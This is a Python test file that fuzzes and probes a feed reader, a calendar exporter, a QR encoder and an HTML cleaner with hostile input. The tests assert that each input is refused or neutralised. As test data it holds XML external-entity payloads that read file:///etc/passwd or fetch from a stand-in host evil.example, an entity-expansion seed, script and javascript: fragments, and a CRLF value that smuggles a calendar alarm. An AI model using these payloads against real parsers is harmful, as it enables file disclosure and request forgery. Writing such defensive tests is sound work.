"""Feeds, calendars and texts to share whose makers want to do harm."""

from __future__ import annotations

import tracemalloc
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from companion.content.clean_html import clean_html
from companion.content.feed_document import LARGEST_BROKEN_BYTES, NotAFeedError, read_feed
from companion.content.legible_html import legible_html
from companion.content.qr_code import qr_matrix
from companion.services.ical_export import as_icalendar
from tests.companion.services.test_ical_export import an_entry
from tests.hostile.examples import examples
from tests.hostile.texts import LARGE, NESTED, hostile_texts

NOW = datetime(2026, 3, 1, tzinfo=UTC)
ADDRESS = "https://news.example/feed"
FEED = (
    b'<?xml version="1.0"?><rss version="2.0"><channel><title>News</title><link>https://a.example/'
    b"</link><item><title>One</title><link>https://a.example/1</link><description>&lt;p&gt;x"
    b"</description><pubDate>Sun, 01 Feb 2026 12:00:00 GMT</pubDate></item></channel></rss>"
)
KNOWN = {
    "", "BEGIN", "CALSCALE", "CATEGORIES", "DESCRIPTION", "DTEND", "DTSTAMP", "DTSTART", "END",
    "LOCATION", "PRODID", "SUMMARY", "TRANSP", "UID", "URL", "VERSION", "X-WR-CALNAME",
}  # fmt: skip
_PIECES = (
    b"<!DOCTYPE x [<!ENTITY a 'b'>]>", b"&a;", b"<item>", b"</item>", b"<![CDATA[", b"]]>", b"\xff",
    b"\x00", b"<a " * 50, b"<?x ?>", b"<entry xmlns='x'>", b"<x:y>", b"&#x110000;", b"\xef\xbb\xbf",
    b"<title type='html'>&lt;script&gt;x", b"<link href='javascript:x'/>", b"<guid>" + b"9" * 5_000,
)  # fmt: skip


@examples(60)
@given(
    places=st.lists(
        st.tuples(st.integers(0, len(FEED)), st.sampled_from(_PIECES) | st.binary(max_size=4)),
        min_size=1,
        max_size=4,
    )
)
def test_feed_that_is_broken_anywhere_is_read_or_refused(places: list[tuple[int, bytes]]) -> None:
    body = FEED
    for place, piece in places:
        body = body[:place] + piece + body[place:]
    try:
        document = read_feed(body, ADDRESS, NOW)
    except NotAFeedError:
        return
    for item in document.items:
        assert "<script" not in item.html
        assert not item.link or item.link.startswith(("http://", "https://"))


@pytest.mark.parametrize(
    "inside",
    [
        b"<!DOCTYPE r [<!ENTITY a 'x'><!ENTITY b '&a;&a;'>]>",
        b"<!DOCTYPE r [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>",
        b"<!DOCTYPE r [<!ENTITY % a SYSTEM 'http://evil.example/x'> %a;]>",
    ],
)
def test_feed_with_entities_of_its_own_is_refused(inside: bytes) -> None:
    with pytest.raises(NotAFeedError):
        read_feed(FEED.replace(b"<rss", inside + b"<rss"), ADDRESS, NOW)


def test_broken_feed_of_50_megabytes_is_refused_in_little_room() -> None:
    body = FEED[:-20] + b"<a " * (50_000_000 // 3)
    assert len(body) > LARGEST_BROKEN_BYTES
    tracemalloc.start()
    try:
        with pytest.raises(NotAFeedError):
            read_feed(body, ADDRESS, NOW)
        most = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert most < 2 * len(body)


@examples(60)
@given(text=st.text(max_size=60) | hostile_texts)
def test_no_text_of_a_calendar_begins_a_line_of_its_own(text: str) -> None:
    entry = an_entry(title=text, course_name=text, location=f"x\r\nBEGIN:VALARM\r\n{text}")
    entry = replace(entry, link=f"https://a.example/{text}")
    told = as_icalendar([entry], site_url="https://a.example", name=text, made_at=NOW)
    lines = told.replace("\r\n ", "").split("\r\n")
    names = [line.split(":")[0].split(";")[0] for line in lines]
    assert [name for name in names if name in {"BEGIN", "END"}] == ["BEGIN", "BEGIN", "END", "END"]
    assert set(names) <= KNOWN
    assert "\n" not in told.replace("\r\n", "")
    assert "\r" not in told.replace("\r\n", "")


@examples(15)
@given(text=st.text(st.characters(blacklist_categories=["Cs"]), min_size=1, max_size=100))
def test_any_text_becomes_a_code_of_bounded_size(text: str) -> None:
    assert len(qr_matrix(text)) <= 200


@pytest.mark.parametrize("name", [*NESTED, *LARGE])
def test_cleaning_what_is_large_gives_little_and_gives_the_same_again(name: str) -> None:
    html = {**NESTED, **LARGE}[name]
    clean = clean_html(html)
    assert len(clean) <= 700_000
    shown = legible_html(clean, after_code=lambda _: "", formula_link=lambda _: "")
    assert len(shown) <= 1_500_000
    assert len(clean_html(clean)) <= len(clean) + 10
